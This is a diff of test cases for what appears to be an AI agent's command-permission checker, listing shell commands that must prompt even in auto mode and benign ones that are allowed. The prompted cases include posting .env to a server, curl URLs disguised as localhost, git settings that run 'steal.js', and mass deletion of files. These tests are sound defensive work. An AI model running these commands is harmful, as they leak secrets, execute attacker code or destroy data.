@@ -144,6 +144,23 @@ describe('commands', () => {
     "bash -Ec 'npm install left-pad'",
     "printf 'npm install left-pad' | sh -s x -c true",
     'npm uninstall left-pad',
+    "npm pkg set scripts.build='npm install left-pad' && npm run build",
+    'env npm pkg set scripts.build=x; node --run build',
+    'git config core.hooksPath evil',
+    'curl http://localhost.evil.example/',
+    'curl http://localhost@evil.example/',
+    'curl localhost:3000 evil.example',
+    'curl -d @.env localhost:3000',
+    'curl -x evil.example localhost:3000',
+    'curl -K curlrc localhost:3000',
+    'curl "localhost:$PORT"',
+    'curl -o src/a.ts localhost:3000',
+    'git config --global core.pager "node steal.js"',
+    "git -c diff.external='node steal.js' diff",
+    'git rm -r tests',
+    'find . -name "*.ts" | xargs rm',
+    'find . -name "*.ts" -exec rm {} +',
+    'git restore -S -W a.ts',
     'pnpm',
     'python3 -m pip install x',
   ])('asks about %s even in auto mode, without offering a rule', (command) => {
@@ -371,6 +388,29 @@ describe('writes', () => {
   it('lets commands touch files whose names begin with a dot and that belong to nobody', () => {
     for (const command of ['sed -i s/a/b/ .gitignore', 'prettier --config .prettierrc src', 'cp a .editorconfig'])
       expect(run(command, 'auto')).toEqual({ verdict: 'allow' })
+  })
+
+  it('lets curl ask a server of the project', () => {
+    for (const command of [
+      'curl http://localhost:3000/',
+      'curl -sS -o /dev/null -w "%{http_code}" http://127.0.0.1:5173/a?b=1',
+      "curl -X POST -H 'content-type: application/json' -d '{}' localhost:3000/api | head -3",
+    ])
+      expect(run(command, 'auto'), command).toEqual({ verdict: 'allow' })
+  })
+
+  it('lets settings that start nothing and files that are unstaged pass', () => {
+    for (const command of [
+      'git config user.name Ada',
+      'git config core.pager',
+      'git -c core.pager=cat log --oneline',
+      'git config merge.conflictStyle zdiff3',
+      'git restore --staged a.ts',
+      'npm pkg get version',
+      'git rm src/old.ts',
+      'find src -name "*.ts" | xargs wc -l',
+    ])
+      expect(run(command, 'auto'), command).toEqual({ verdict: 'allow' })
   })
 
   it('asks before deleting tests', () => {
